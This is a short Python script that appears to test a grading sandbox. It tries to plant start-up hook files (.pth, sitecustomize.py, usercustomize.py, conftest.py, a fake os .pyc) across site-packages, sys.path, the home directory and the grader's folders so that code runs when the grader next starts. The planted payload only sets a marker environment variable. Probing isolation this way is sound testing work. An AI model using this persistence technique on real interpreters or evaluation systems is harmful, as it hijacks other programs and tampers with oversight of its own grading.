"""Plants code that the grader would run when it starts next: .pth files, start-up modules, compiled files."""

import os

import grader.cage.inside.worker as worker

inside = os.path.dirname(worker.__file__)
package = os.path.dirname(os.path.dirname(inside))
course = os.path.dirname(package)
import site
import sys

for folder in {
    *site.getsitepackages(),
    *sys.path,
    package,
    course,
    os.path.dirname(os.__file__),
    os.path.expanduser("~"),
}:
    for name in (
        "grader-attack.pth",
        "sitecustomize.py",
        "usercustomize.py",
        "conftest.py",
        "__pycache__/os.cpython-311.pyc",
    ):
        path = os.path.join(folder, name)
        if os.path.exists(path):
            continue
        try:
            with open(path, "w") as file:
                file.write("import os; os.environ['GRADER_ATTACK'] = '1'")
            print("ATTACK SUCCEEDED: planted", path)
        except OSError:
            continue
